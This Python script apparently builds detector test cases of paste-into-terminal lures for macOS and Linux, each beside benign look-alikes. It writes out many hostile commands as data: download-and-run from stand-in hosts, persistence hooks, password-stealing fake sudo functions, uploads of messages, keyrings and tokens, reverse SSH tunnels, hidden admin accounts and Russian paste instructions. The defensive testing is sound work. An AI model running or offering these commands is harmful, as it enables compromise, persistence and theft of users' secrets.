"""Writes tests/data/cases/b5nix.jsonl: macOS, Linux and shell techniques that the fifth blind
set showed missing (issue 9), in our own variants, each beside the everyday text that looks
like it and must stay quiet.

    python tests/data/cases/make_b5nix.py

Deterministic (every list is written out and crossed in a fixed order). Hosts are reserved names
(*.test, *.invalid, *.example) and documentation addresses; the benign texts name real projects,
resolvers and tools as their own pages and admins do. No text is copied from a lure collection,
an IOC file, another detector's fixtures or the blind sets. Each line is {id, text, expect,
technique, platform[, source], target}. Every lure is written in its context (the page that
would hand it out, pasted into a terminal) and bare (`-bare`: no page, target unknown, expected
`flagged`).

Techniques (lure / look-alike that stays quiet):

- `persist-download`: a download written where the system runs it later (/etc/periodic,
  /etc/profile.d, update-motd.d, rc.local, NetworkManager dispatcher, apt hooks, StartupItems,
  the loginwindow LoginHook/LogoutHook, git hooks for every repository, fish/zlogin/bash_login
  start-up files, at's here-string, an AppleScript login item) / the same places used
  without a download, one repository's own Gerrit hook, a vendor's own motd script.
- `package-from-address`: rpm/dnf/zypper of an .rpm URL, flatpak of a remote reference, a
  downloaded snap installed --dangerous, a .deb or .rpm saved to a temporary folder and
  installed, uvx/uv tool from a git URL / EPEL and RPM Fusion, Flathub references, a snap built
  here, a vendor's .deb from its own page, a project's own git URL.
- `foreign-package-index`: pip -i/--index-url/--extra-index-url, pip config, npm/yarn
  --registry, gem --source pointing at a stranger's server / PyTorch's, NVIDIA's and mirror
  indexes, a company's own index from its own wiki.
- `run-wrapper`: a download-and-run handed to sed e, rsync -e, tar's checkpoint action,
  find -exec, xargs, awk system(), script, caffeinate, swift/tclsh/lua/expect from stdin, or
  bash's ${x@P} / the same programs doing their everyday work.
- `odd-script-source`: a script piped into a shell from gopher, TFTP, DICT or a paste site's raw
  text / a firmware image over TFTP, a project's own raw GitHub file.
- `profile-install`: a downloaded .mobileconfig opened or installed / profiles listed, a
  company's own enrolment profile from its own IT page.
- `remote-login-key`: remote login switched on beside a downloaded key / remote login on alone,
  a person's own forge keys.
- `remote-control-on`: ARD kickstart with every privilege / launchctl kickstart of a service,
  kickstart turning remote management off.
- `ssh-tunnel-in`: ssh -R to this computer's sshd/VNC port (blocked when the host check is off)
  / ssh -R of a web port for a demo, ssh -L to a database.
- `traffic-redirect`: DNS servers, web/SOCKS proxy or PAC set to a stranger's address (macOS
  networksetup by address or name, GNOME gsettings, resolv.conf) / public resolvers, a local debugging proxy, the office's
  resolver, reading the settings.
- `system-report-upload`: system_profiler, sw_vers, uname, hostnamectl, dmidecode posted away /
  the same reports read locally.
- `admin-account-add`: an administrator account created with its password in the command (with
  remote login switched on) / a user added to docker or sudo, a plain account with a password.
- `unchecked-package-source`: a Flatpak remote added with --no-gpg-verify and installed from.
- `fake-sudo`: a sudo/su function with a silent read appended to a shell rc file / wrappers
  and functions without one.
- `zsh-param-flags`: a command put together by zsh's (j::), (Oa), (P) flags inside eval or where
  a command starts / the flags in everyday zsh.
- `data-theft-more`: Messages, Notes, keyrings and package-registry tokens uploaded / the same
  files read locally.
- `paste-instructions-ru`: Russian orders to open a terminal or the Run box and paste / a
  genuine Russian how-to and a warning about the trick.
"""

from __future__ import annotations

from pathlib import Path

from casefile import case as case_line  # beside this script (tests/data/cases/make_*.py)

OUT = Path(__file__).with_name("b5nix.jsonl")

# Pages that hand out lures: off-topic pages and pages dressed up as a check or a company.
PAGES = (
    "https://www.garden-tools-outlet.example/shears",
    "https://verify.session-guard.invalid/continue",
    "https://www.weekend-hiking-club.test/routes/12",
    "https://www.wedding-venues-lakeside.example/booking",
)
HOSTS = ("sync-node.test", "198.51.100.61", "relay-cache.invalid", "203.0.113.88")


def case(
    cid: str,
    text: str,
    expect: str,
    technique: str,
    platform: str,
    target: str = "terminal",
    source: str | None = None,
) -> dict[str, str]:
    return case_line(cid, text, expect, technique, platform, source, target)


def page(i: int) -> str:
    return PAGES[i % len(PAGES)]


def url(i: int, path: str = "s") -> str:
    return f"https://{HOSTS[i % len(HOSTS)]}/{path}"


def host(i: int) -> str:
    return HOSTS[i % len(HOSTS)]


def lures(
    prefix: str, technique: str, platform: str, shapes: tuple[tuple[str, str], ...]
) -> list[dict[str, str]]:
    """Each (expect in context, shape) in its page's context and bare."""
    out = []
    for i, (expect, shape) in enumerate(shapes, 1):
        text = shape.replace("URL", url(i, f"{prefix[:2]}{i}")).replace("HOST", host(i))
        cid = f"b5nix-{prefix}-{i:02d}"
        out.append(case(cid, text, expect, technique, platform, source=page(i)))
        out.append(case(f"{cid}-bare", text, "flagged", technique, platform, "unknown"))
    return out


def quiet(
    prefix: str, technique: str, platform: str, texts: tuple[tuple[str | None, str], ...]
) -> list[dict[str, str]]:
    """Look-alikes, each with the page it comes from (None: typed or pasted with no page)."""
    return [
        case(f"b5nix-ok-{prefix}-{i:02d}", text, "not_flagged", technique, platform,
             source=source)
        for i, (source, text) in enumerate(texts, 1)
    ]  # fmt: skip


# -- a download written where the system runs it later ------------------------------------------

PERSIST = (
    ("malicious", "sudo curl -fsSL URL -o /etc/periodic/weekly/500.tidy && sudo chmod 755 /etc/periodic/weekly/500.tidy"),
    ("malicious", "wget -qO- URL | sudo tee /etc/profile.d/00-lang.sh > /dev/null"),
    ("malicious", "sudo curl -so /etc/update-motd.d/98-info URL && sudo chmod +x /etc/update-motd.d/98-info"),
    ("malicious", "curl -s URL | sudo tee -a /etc/rc.local >/dev/null"),
    ("malicious", "sudo wget -qO /etc/NetworkManager/dispatcher.d/90-sync URL && sudo chmod +x /etc/NetworkManager/dispatcher.d/90-sync"),
    ("malicious", "curl -fsSL URL | sudo tee /etc/apt/apt.conf.d/80refresh"),
    ("malicious", "curl -s URL > /usr/local/etc/periodic/daily/400.clean; chmod +x /usr/local/etc/periodic/daily/400.clean"),
    ("malicious", "sudo mkdir -p /Library/StartupItems/Sync && sudo curl -so /Library/StartupItems/Sync/Sync URL"),
    ("malicious", "curl -so /Users/Shared/.sess URL; chmod +x /Users/Shared/.sess; sudo defaults write com.apple.loginwindow LogoutHook /Users/Shared/.sess"),
    ("malicious", "sudo defaults write com.apple.loginwindow LoginHook /usr/local/bin/lh && sudo curl -so /usr/local/bin/lh URL && sudo chmod +x /usr/local/bin/lh"),
    ("malicious", "git config --global core.hooksPath ~/.config/hooks; mkdir -p ~/.config/hooks; wget -qO ~/.config/hooks/post-checkout URL; chmod +x ~/.config/hooks/post-checkout"),
    ("malicious", "mkdir -p ~/.tpl/hooks && curl -so ~/.tpl/hooks/pre-push URL && chmod +x ~/.tpl/hooks/pre-push && git config --global init.templateDir ~/.tpl"),
    ("malicious", "curl -fsSL URL | sudo tee -a /etc/zshenv >/dev/null"),
    ("malicious", "wget -qO- URL | sudo tee /etc/cron.hourly/sync-clock && sudo chmod +x /etc/cron.hourly/sync-clock"),
)  # fmt: skip

PERSIST_QUIET = (
    ("https://askubuntu.com/questions/7512", "echo 'export EDITOR=vim' | sudo tee /etc/profile.d/editor.sh"),
    ("https://askubuntu.com/questions/8120", "sudo chmod -x /etc/update-motd.d/10-help-text /etc/update-motd.d/50-motd-news"),
    ("https://github.com/acme-dev/webapp/blob/main/CONTRIBUTING.md", "git config core.hooksPath .githooks"),
    ("https://blog.example.org/git-hooks-everywhere", "git config --global core.hooksPath ~/.githooks"),
    ("https://review.example.org/Documentation/user-upload.html", "curl -Lo .git/hooks/commit-msg https://review.example.org/tools/hooks/commit-msg && chmod +x .git/hooks/commit-msg"),
    (None, "sudo periodic daily weekly monthly"),
    (None, "ls -l /etc/periodic/daily/ /etc/profile.d/"),
    ("https://support.example.org/mac/remove-login-hook", "sudo defaults delete com.apple.loginwindow LoginHook"),
    (None, "defaults read com.apple.loginwindow"),
    ("https://docs.fleetwatch.example/agent/motd", "sudo curl -fsSL https://get.fleetwatch.example/motd/99-fleetwatch -o /etc/update-motd.d/99-fleetwatch && sudo chmod +x /etc/update-motd.d/99-fleetwatch"),
    ("https://wiki.archlinux.org/title/Environment_variables", "echo 'LANG=en_US.UTF-8' | sudo tee -a /etc/environment"),
)  # fmt: skip


# the same act through the start-up files and schedulers the older rules knew by other names
PERSIST_MORE = (
    ("malicious", "echo 'curl -s URL | bash' >> ~/.config/fish/config.fish"),
    ("malicious", "echo 'curl -fsSL URL | sh >/dev/null 2>&1' >> ~/.zlogin"),
    ("malicious", "printf 'wget -qO- URL | sh\\n' >> ~/.bash_login"),
    ("malicious", "at now + 10 minutes <<< 'curl -s URL | sh'"),
    (
        "malicious",
        "curl -so /Users/Shared/Helper URL && chmod +x /Users/Shared/Helper && osascript -e "
        '\'tell application "System Events" to make login item at end with properties '
        '{path:"/Users/Shared/Helper", hidden:true}\'',
    ),
)

PERSIST_MORE_QUIET = (
    (None, "echo 'set -gx EDITOR nvim' >> ~/.config/fish/config.fish"),
    (None, "echo 'export PATH=\"$HOME/.cargo/bin:$PATH\"' >> ~/.zlogin"),
    (None, "echo 'make backup' | at now + 1 hour"),
    (
        None,
        'osascript -e \'tell application "System Events" to make login item at end with '
        'properties {path:"/Applications/Rectangle.app", hidden:false}\'',
    ),
)


# -- packages from an address -------------------------------------------------------------------

PACKAGES = (
    ("malicious", "sudo dnf install -y https://HOST/agent-2.1-1.x86_64.rpm"),
    ("malicious", "sudo rpm -Uvh https://HOST/pkgs/scanfix-3.0-1.noarch.rpm"),
    ("malicious", "sudo zypper in -y https://HOST/driver-1.4-1.x86_64.rpm"),
    ("malicious", "flatpak install --user -y https://HOST/Viewer.flatpakref"),
    ("malicious", "flatpak install -y --from https://HOST/repo/PhotoLab.flatpakref"),
    ("malicious", "curl -sLo /tmp/u.snap URL && sudo snap install --dangerous /tmp/u.snap"),
    ("malicious", "wget -qO /var/tmp/drv.deb URL; sudo apt install -y /var/tmp/drv.deb"),
    ("malicious", "curl -fsSL URL -o /tmp/p.deb && sudo dpkg -i /tmp/p.deb"),
    ("malicious", "wget -qO /tmp/tool.rpm URL && sudo rpm -i /tmp/tool.rpm"),
    ("malicious", "uvx --from git+https://HOST/hiring/screen-kit screen-kit run"),
    ("malicious", "uv tool install git+https://HOST/team/lintfix && lintfix --init"),
    ("malicious", "curl -sLo /dev/shm/c.deb URL && sudo gdebi -n /dev/shm/c.deb"),
)

PACKAGES_QUIET = (
    ("https://www.linuxcapable.example/install-rpm-fusion-on-fedora", "sudo dnf install https://mirrors.rpmfusion.org/nonfree/fedora/rpmfusion-nonfree-release-$(rpm -E %fedora).noarch.rpm"),
    (None, "sudo dnf install -y https://dl.fedoraproject.org/pub/epel/epel-release-latest-8.noarch.rpm"),
    (None, "flatpak install --from https://dl.flathub.org/repo/appstream/org.gimp.GIMP.flatpakref"),
    (None, "snapcraft pack && sudo snap install --dangerous ./hello-world_0.1_amd64.snap"),
    ("https://docs.acme-tools.example/install/linux", "curl -fsSLo /tmp/acmectl.deb https://downloads.acme-tools.example/acmectl_2.0_amd64.deb && sudo dpkg -i /tmp/acmectl.deb"),
    (None, "sudo apt install ./code_1.96.0-1733888194_amd64.deb"),
    ("https://github.com/tidewater-labs/krill", "uvx --from git+https://github.com/tidewater-labs/krill krill --version"),
    (None, "rpm -qip https://dl.fedoraproject.org/pub/epel/epel-release-latest-9.noarch.rpm"),
    (None, "dnf download --source bash && rpm -qpl bash-*.src.rpm"),
    (None, "flatpak install flathub org.kde.krita"),
)  # fmt: skip


# -- a stranger's package index -----------------------------------------------------------------

INDEXES = (
    (
        "malicious",
        "pip install --index-url https://HOST/simple/ colorama-ext && python -m colorama_ext",
    ),
    ("malicious", "pip3 install -i https://HOST/simple reqeusts-toolbelt"),
    ("malicious", "python3 -m pip install --extra-index-url https://HOST/pypi torch-utils-fast"),
    (
        "malicious",
        "pip config set global.index-url https://HOST/simple && pip install boto3-helpers",
    ),
    ("malicious", "npm i --registry=https://HOST/ web3-wallet-kit && npx web3-wallet-kit"),
    ("malicious", "yarn add eslint-fmt-pro --registry https://HOST"),
    ("malicious", "gem install rails-assets-fast --source https://HOST/"),
    ("malicious", "uv pip install --index-url https://HOST/simple data-kit-pro"),
)

INDEXES_QUIET = (
    ("https://blog.example.org/pytorch-on-a-laptop", "pip install torch torchvision --index-url https://download.pytorch.org/whl/cpu"),
    (None, "python3 -m pip install -i https://test.pypi.org/simple/ example-package-demo"),
    (None, "pip config set global.index-url https://mirrors.aliyun.com/pypi/simple/"),
    ("https://blog.example.org/rapids-in-five-minutes", "pip install --extra-index-url=https://pypi.nvidia.com cudf-cu12"),
    (None, "npm install --registry https://registry.npmjs.org/"),
    ("https://wiki.corp-tools.example/python/setup", "pip install --index-url https://pypi.corp-tools.example/simple corp-cli"),
    (None, "npm config get registry"),
    (None, "pip install -r requirements.txt --index-url https://acme.jfrog.io/artifactory/api/pypi/pypi/simple"),
    (None, "pip download --no-deps -d wheels requests"),
)  # fmt: skip


# -- a download-and-run dressed up as another program's work -------------------------------------

WRAPPERS = (
    ("malicious", "printf 'curl -fsSL URL | bash\\n' | sed e"),
    ("malicious", "echo 'wget -qO- URL | sh' | sed -n e"),
    ("malicious", "rsync -e \"bash -c 'curl -s URL | bash'\" h:/ /tmp/x"),
    (
        "malicious",
        'tar -cf /dev/null /dev/null --checkpoint=1 --checkpoint-action=exec="curl -fsSL URL | sh"',
    ),
    ("malicious", 'find . -maxdepth 0 -exec bash -c "curl -s URL | bash" \\;'),
    ("malicious", "printf '%s\\n' URL | xargs -I% sh -c 'wget -qO- % | sh'"),
    ("malicious", "awk 'BEGIN{system(\"curl -fsSL URL | sh\")}'"),
    ("malicious", "curl -s URL | swift -"),
    ("malicious", "curl -fsSL URL | tclsh"),
    ("malicious", "wget -qO- URL | lua -"),
    ("malicious", "curl -s URL | expect -"),
    ("malicious", "swift <(curl -s URL)"),
    ("malicious", "s='$(curl -s URL | sh)'; echo \"${s@P}\""),
    ("malicious", 'script -q /dev/null bash -c "$(curl -fsSL URL)"'),
    ("malicious", 'caffeinate -d zsh -c "$(curl -s URL)"'),
)

WRAPPERS_QUIET = (
    (None, "sed -e 's/foo/bar/g' notes.txt > notes.new"),
    ("https://www.cyberciti.example/faq/change-ssh-port", "sudo sed -i 's/^#Port 22/Port 2222/' /etc/ssh/sshd_config"),
    (None, "rsync -avz -e 'ssh -p 2222' ./site/ deploy@example.org:/var/www/site/"),
    (None, "find . -name '*.log' -exec sh -c 'gzip \"$1\"' _ {} \\;"),
    (None, "ls *.csv | xargs -I{} sh -c 'wc -l {}'"),
    (None, "awk 'BEGIN{system(\"date\")}'"),
    ("https://www.swift.org/getting-started/cli-swiftpm/", "swift build -c release && swift test"),
    (None, "echo 'puts [info patchlevel]' | tclsh"),
    (None, "echo \"${PS1@P}\""),
    (None, "caffeinate -i make -j8"),
    (None, "script -q /dev/null top -l 1"),
    (None, "tar -cf backup.tar --checkpoint=1000 --checkpoint-action=dot ~/Documents"),
)  # fmt: skip


# -- scripts from paste sites and old protocols -------------------------------------------------

ODD_SOURCES = (
    ("malicious", "curl -s gopher://198.51.100.61:70/0/i.sh | bash"),
    ("malicious", "curl -s tftp://203.0.113.88/x.sh | sh"),
    ("malicious", "curl -s dict://relay-cache.invalid:2628/d:boot | sh"),
    ("malicious", "curl -fsSL https://pastebin.com/raw/Xy12AbQ9 | bash"),
    ("malicious", "wget -qO- https://paste.notes-drop.test/raw/a81kq | sh"),
    ("malicious", "curl -s https://snip-bin.invalid/raw/q9Lz | python3"),
)

ODD_SOURCES_QUIET = (
    ("https://github.com/tidewater-labs/krill", "curl -fsSL https://github.com/tidewater-labs/krill/raw/main/install.sh | bash"),
    ("https://openwrt.org/docs/guide-user/installation/generic.flashing.tftp", "curl -o firmware.bin tftp://192.168.1.1/firmware.bin"),
    (None, "curl gopher://gopher.floodgap.com/1/world"),
)  # fmt: skip


# -- configuration profiles, remote login, remote control, tunnels ------------------------------

PROFILES = (
    (
        "malicious",
        "curl -so ~/Downloads/wifi.mobileconfig URL && open ~/Downloads/wifi.mobileconfig",
    ),
    (
        "malicious",
        "curl -sLo /tmp/cert.mobileconfig URL; sudo profiles install -path=/tmp/cert.mobileconfig",
    ),
    (
        "malicious",
        "curl -s URL -o /tmp/p.mobileconfig && open -a 'System Settings' /tmp/p.mobileconfig",
    ),
)

PROFILES_QUIET = (
    (None, "sudo profiles list"),
    (None, "profiles show -type enrollment"),
    ("https://it.corp-tools.example/mac/enrol", "curl -so /tmp/corp.mobileconfig https://mdm.corp-tools.example/enroll.mobileconfig && open /tmp/corp.mobileconfig"),
)  # fmt: skip

REMOTE_LOGIN = (
    ("malicious", "sudo systemsetup -setremotelogin on && curl -s URL >> ~/.ssh/authorized_keys"),
    ("malicious", "sudo systemctl enable --now ssh; wget -qO- URL >> ~/.ssh/authorized_keys"),
    (
        "malicious",
        "sudo launchctl load -w /System/Library/LaunchDaemons/ssh.plist; mkdir -p ~/.ssh; curl -s URL | tee -a ~/.ssh/authorized_keys",
    ),
)

REMOTE_LOGIN_QUIET = (
    ("https://support.example.org/mac/ssh", "sudo systemsetup -setremotelogin on"),
    (None, "sudo systemctl enable --now sshd"),
    (None, "sudo systemsetup -getremotelogin"),
    (None, "curl -s https://github.com/alice-dev.keys >> ~/.ssh/authorized_keys"),
)  # fmt: skip

# from a page dressed up as Apple's support (the lure's own page), and from an unknown helpdesk
KICKSTART = (
    "sudo /System/Library/CoreServices/RemoteManagement/ARDAgent.app/Contents/Resources/kickstart"
)
REMOTE_CONTROL = (
    ("https://support.apple-help-desk.invalid/ticket/5521", "malicious", f"{KICKSTART} -activate -configure -access -on -privs -all -restart -agent"),
    ("https://support.icloud-repair.test/case", "malicious", f"{KICKSTART} -configure -allowAccessFor -allUsers -privs -all && {KICKSTART} -activate"),
    ("https://www.remote-help-now.example/session", "flagged", f"{KICKSTART} -activate -configure -access -on -users admin -privs -all -clientopts -setvnclegacy -vnclegacy yes -setvncpw -vncpw support1"),
)  # fmt: skip

REMOTE_CONTROL_QUIET = (
    (None, "sudo launchctl kickstart -k system/com.apple.audio.coreaudiod"),
    (
        "https://support.example.org/mac/turn-off-remote-management",
        f"{KICKSTART} -deactivate -configure -access -off",
    ),
)

TUNNELS = (
    ("flagged", "ssh -N -R 4022:127.0.0.1:22 helpdesk@HOST"),
    (
        "malicious",
        "ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -fNR 0.0.0.0:5900:localhost:5900 tech@HOST",
    ),
    ("malicious", "autossh -M 0 -f -N -o StrictHostKeyChecking=no -R 2200:localhost:22 agent@HOST"),
    ("flagged", "ssh -fNR 3390:localhost:3389 support@HOST"),
)

TUNNELS_QUIET = (
    (
        "https://blog.example.org/share-your-dev-server",
        "ssh -R 80:localhost:3000 nokey@localhost.run",
    ),
    (None, "ssh -N -L 5432:localhost:5432 bastion.example.org"),
    (None, "ssh -p 2222 localhost"),
)


# -- traffic redirection, system reports, fake sudo ---------------------------------------------

REDIRECTS = (
    "networksetup -setdnsservers Wi-Fi 203.0.113.53",
    'sudo networksetup -setdnsservers "USB 10/100/1000 LAN" 198.51.100.8 1.1.1.1',
    "networksetup -setsecurewebproxy Ethernet 198.51.100.77 3128",
    "networksetup -setautoproxyurl Wi-Fi http://203.0.113.9/wpad.dat",
    "networksetup -setsocksfirewallproxy Wi-Fi 203.0.113.20 1080",
    "gsettings set org.gnome.system.proxy.https host '198.51.100.30' && gsettings set org.gnome.system.proxy mode 'manual'",
)

REDIRECTS_QUIET = (
    ("https://developers.cloudflare.com/1.1.1.1/setup/macos/", "networksetup -setdnsservers Wi-Fi 1.1.1.1 1.0.0.1"),
    (None, "sudo networksetup -setdnsservers Wi-Fi empty"),
    ("https://www.charlesproxy.com/documentation/configuration/", "networksetup -setwebproxy Wi-Fi 127.0.0.1 8888"),
    ("https://docs.pi-hole.net/main/post-install/", "networksetup -setdnsservers Ethernet 192.168.1.2"),
    (None, "networksetup -getdnsservers Wi-Fi"),
    (None, "networksetup -setwebproxystate Wi-Fi off"),
    ("https://blog.example.org/faster-dns-on-mac", "sudo networksetup -setdnsservers Wi-Fi 8.8.8.8 8.8.4.4"),
    (None, "gsettings set org.gnome.system.proxy mode 'none'"),
    (None, "networksetup -setdnsservers Wi-Fi 9.9.9.9 149.112.112.112"),
)  # fmt: skip

REDIRECTS_MORE = (
    "sudo networksetup -setwebproxy Wi-Fi proxy.relay-cache.invalid 8080",
    "echo 'nameserver 203.0.113.53' | sudo tee /etc/resolv.conf",
)

REDIRECTS_MORE_QUIET = (
    (None, "networksetup -setwebproxy Wi-Fi proxy.corp.local 8080"),
    ("https://wiki.archlinux.org/title/Domain_name_resolution", "echo 'nameserver 1.1.1.1' | sudo tee /etc/resolv.conf"),
    (None, "echo 'nameserver 192.168.1.1' | sudo tee /etc/resolv.conf"),
)  # fmt: skip

ACCOUNTS = (
    "sudo useradd -m -G sudo,wheel helpdesk && echo 'helpdesk:Support2024' | sudo chpasswd",
    "sudo sysadminctl -addUser support -fullName Support -password Welcome1 -admin",
    "sudo dscl . -create /Users/support && sudo dscl . -passwd /Users/support Welcome1 && "
    "sudo dscl . -append /Groups/admin GroupMembership support && sudo systemsetup -setremotelogin on",
)

ACCOUNTS_QUIET = (
    ("https://docs.docker.com/engine/install/linux-postinstall/", "sudo usermod -aG docker $USER"),
    (None, "sudo usermod -aG sudo alice"),
    (None, "sudo useradd -m -s /bin/bash deploy && echo 'deploy:Tmp-Pass-1' | sudo chpasswd"),
    (None, "sudo sysadminctl -addUser kiosk -fullName Kiosk -password -"),
    (None, "FROM ubuntu:24.04\nRUN useradd -m -G sudo dev && echo 'dev:dev' | chpasswd\nUSER dev"),
)

UNCHECKED_MORE = (
    "flatpak remote-add --if-not-exists --no-gpg-verify extra https://relay-cache.invalid/repo && flatpak install -y extra org.example.Tool",
)  # fmt: skip

REPORTS = (
    "system_profiler SPSoftwareDataType SPHardwareDataType | curl -s -X POST --data-binary @- URL",
    "sw_vers | curl -s -d @- URL",
    'curl -s -d "$(uname -a)" URL',
    "hostnamectl | curl -s -F r=@- URL",
    "sudo dmidecode -t system | curl -s -T - URL",
)

REPORTS_QUIET = (
    (None, "system_profiler SPHardwareDataType | grep Serial"),
    (None, "uname -a && sw_vers -productVersion"),
    (None, "sudo dmidecode -t memory | less"),
    (None, "curl -s -d '{\"name\":\"test\"}' -H 'content-type: application/json' https://api.example.org/v1/items"),
)  # fmt: skip

FAKE_SUDO = (
    (
        "malicious",
        'echo \'sudo(){ read -s -p "Password:" pw; echo; printf "%s\\n" "$pw" >> /tmp/.k; echo "$pw" | command sudo -S "$@"; }\' >> ~/.zshrc',
    ),
    (
        "malicious",
        'cat >> ~/.bashrc <<\'EOF\'\nfunction sudo { read -rsp "[sudo] password for $USER: " x; echo; curl -s -d "$x" URL >/dev/null; echo "$x" | /usr/bin/sudo -S "$@"; }\nEOF',
    ),
    (
        "malicious",
        'echo \'su(){ read -sp "Password: " p; echo "$p" > ~/.cache/.s; command su "$@"; }\' >> ~/.bash_profile',
    ),
)

FAKE_SUDO_QUIET = (
    (None, "alias please='sudo'"),
    (None, "echo 'sudo() { command sudo -E \"$@\"; }' >> ~/.bashrc"),
    (None, 'read -rsp "Database password: " PGPASSWORD; export PGPASSWORD'),
    (None, 'function mkcd { mkdir -p "$1" && cd "$1"; }'),
)


# -- zsh parameter flags, more data theft, Russian instructions ---------------------------------

ZSH = (
    ("malicious", "c=(c u r l); ${(j::)c} -fsSL URL | zsh"),
    ("malicious", "w=(bash '|' URL -fsSL curl); eval ${(Oa)w}"),
    ("malicious", 'n=cmd; cmd="curl -s URL | sh"; eval ${(P)n}'),
    ("malicious", 'x=(w g e t); eval "${(j::)x} -qO- URL | sh"'),
    ("malicious", "p=(sh '|' URL -s curl); eval \"${(j: :)${(Oa)p}}\""),
)

ZSH_QUIET = (
    (None, "print -l ${(s/:/)PATH}"),
    (None, "echo ${(j:,:)fruits}"),
    (None, "for k in ${(k)options}; do echo $k; done"),
    (None, "typeset -U path; print ${(F)path}"),
)

THEFT = (
    "zip -qr /tmp/n.zip ~/Library/Group\\ Containers/group.com.apple.notes && curl -s -F n=@/tmp/n.zip URL",
    "tar czf - ~/Library/Messages | curl -s -T - URL",
    "cp ~/Library/Messages/chat.db /tmp/c.db && curl -s -F f=@/tmp/c.db URL",
    "curl -s -F a=@$HOME/.npmrc -F b=@$HOME/.pypirc URL",
    "cat ~/.docker/config.json | curl -s -d @- URL",
    "tar cz ~/.local/share/keyrings | curl -s -T - URL",
    "curl -s -F k=@$HOME/.config/gh/hosts.yml URL",
)

THEFT_QUIET = (
    (None, "cat ~/.npmrc"),
    (None, "sqlite3 ~/Library/Messages/chat.db 'select count(*) from message'"),
    (None, "ls -la ~/.local/share/keyrings/"),
    (None, "docker login ghcr.io && cat ~/.docker/config.json"),
)

RU = (
    "Подтвердите, что вы не робот:\n1. Откройте терминал (Ctrl + Alt + T)\n2. Вставьте команду ниже и нажмите Enter\n\ncurl -fsSL URL | bash",
    'Проверка Mac:\n1. Нажмите Command + Пробел и введите Terminal\n2. Вставьте команду и нажмите Enter\n\nbash -c "$(curl -fsSL URL)"',
    'Чтобы продолжить:\n1. Нажмите Win + R\n2. Вставьте (Ctrl + V) и нажмите Enter\n\npowershell -w h -c "irm URL | iex"',
)

RU_QUIET = (
    "Никогда не вставляйте в терминал команды с сайтов, которые просят «подтвердить, что вы не робот»: это мошенники.\nЕсли вы уже вставили команду и нажали Enter, отключите интернет.",
    "Как обновить систему:\n1. Откройте терминал\n2. Вставьте команду и нажмите Enter\n\nsudo apt update && sudo apt upgrade",
)


def build() -> list[dict[str, str]]:
    cases = [
        *lures("persist", "persist-download", "linux", PERSIST),
        *quiet("persist", "persist-download", "linux", PERSIST_QUIET),
        *lures("persistmore", "persist-download", "linux", PERSIST_MORE),
        *quiet("persistmore", "persist-download", "linux", PERSIST_MORE_QUIET),
        *lures("package", "package-from-address", "linux", PACKAGES),
        *quiet("package", "package-from-address", "linux", PACKAGES_QUIET),
        *lures("index", "foreign-package-index", "any", INDEXES),
        *quiet("index", "foreign-package-index", "any", INDEXES_QUIET),
        *lures("wrapper", "run-wrapper", "linux", WRAPPERS),
        *quiet("wrapper", "run-wrapper", "linux", WRAPPERS_QUIET),
        *lures("oddsrc", "odd-script-source", "linux", ODD_SOURCES),
        *quiet("oddsrc", "odd-script-source", "linux", ODD_SOURCES_QUIET),
        *lures("profile", "profile-install", "macos", PROFILES),
        *quiet("profile", "profile-install", "macos", PROFILES_QUIET),
        *lures("rlogin", "remote-login-key", "macos", REMOTE_LOGIN),
        *quiet("rlogin", "remote-login-key", "macos", REMOTE_LOGIN_QUIET),
        *quiet("rcontrol", "remote-control-on", "macos", REMOTE_CONTROL_QUIET),
        *lures("tunnel", "ssh-tunnel-in", "linux", TUNNELS),
        *quiet("tunnel", "ssh-tunnel-in", "linux", TUNNELS_QUIET),
        *lures("redirect", "traffic-redirect", "macos", tuple(("flagged", t) for t in REDIRECTS)),
        *quiet("redirect", "traffic-redirect", "macos", REDIRECTS_QUIET),
        *lures(
            "redirmore", "traffic-redirect", "macos", tuple(("flagged", t) for t in REDIRECTS_MORE)
        ),
        *quiet("redirmore", "traffic-redirect", "macos", REDIRECTS_MORE_QUIET),
        *lures("account", "admin-account-add", "macos", tuple(("flagged", t) for t in ACCOUNTS)),
        *quiet("account", "admin-account-add", "linux", ACCOUNTS_QUIET),
        *lures(
            "unchecked",
            "unchecked-package-source",
            "linux",
            tuple(("malicious", t) for t in UNCHECKED_MORE),
        ),
        *lures("report", "system-report-upload", "macos", tuple(("flagged", t) for t in REPORTS)),
        *quiet("report", "system-report-upload", "macos", REPORTS_QUIET),
        *lures("fakesudo", "fake-sudo", "linux", FAKE_SUDO),
        *quiet("fakesudo", "fake-sudo", "linux", FAKE_SUDO_QUIET),
        *lures("zsh", "zsh-param-flags", "macos", ZSH),
        *quiet("zsh", "zsh-param-flags", "macos", ZSH_QUIET),
        *lures("theft", "data-theft-more", "macos", tuple(("malicious", t) for t in THEFT)),
        *quiet("theft", "data-theft-more", "macos", THEFT_QUIET),
    ]
    for i, (source, expect, text) in enumerate(REMOTE_CONTROL, 1):
        cid = f"b5nix-rcontrol-{i:02d}"
        cases.append(case(cid, text, expect, "remote-control-on", "macos", source=source))
        cases.append(case(f"{cid}-bare", text, "flagged", "remote-control-on", "macos", "unknown"))
    for i, text in enumerate(RU, 1):
        text = text.replace("URL", url(i, f"ru{i}"))
        cid = f"b5nix-ru-{i:02d}"
        cases.append(
            case(cid, text, "malicious", "paste-instructions-ru", "any", "unknown", page(i))
        )
        cases.append(
            case(f"{cid}-bare", text, "flagged", "paste-instructions-ru", "any", "unknown")
        )
    for i, text in enumerate(RU_QUIET, 1):
        cases.append(case(f"b5nix-ok-ru-{i:02d}", text, "not_flagged", "paste-instructions-ru", "any",
                          "other" if i % 2 else "terminal", "https://help.example.org/ru/articles/7"))  # fmt: skip
    ids = [c["id"] for c in cases]
    assert len(ids) == len(set(ids)), "case ids must be unique"
    return cases


CASES = build()

if __name__ == "__main__":
    from casefile import write  # beside this script, which runs as tests/data/cases/make_*.py

    write(OUT, CASES)
